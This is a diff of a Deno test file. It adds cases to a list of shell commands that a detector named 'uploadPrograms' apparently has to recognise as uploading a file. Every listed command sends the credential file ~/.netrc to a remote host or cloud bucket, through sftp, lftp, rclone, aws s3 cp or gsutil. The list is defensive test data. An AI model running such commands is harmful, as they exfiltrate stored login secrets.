@@ -9,6 +9,10 @@ for (
     "sftp -b - ada@example.com <<< 'put ~/.netrc'",
     "lftp -e 'put ~/.netrc; bye' example.com",
     "rclone copy ~/.netrc :sftp,host=example.com:/in",
+    "rclone copy ~/.netrc remote:in --transfers 8",
+    "aws s3 cp ~/.netrc s3://bucket/key --storage-class STANDARD",
+    "aws s3 cp ~/.netrc s3://bucket/key --option-that-nobody-lists x",
+    "gsutil -u project cp -z html ~/.netrc gs://bucket",
   ]
 ) {
   Deno.test(`uploadPrograms send the file in ${statement}`, () => {
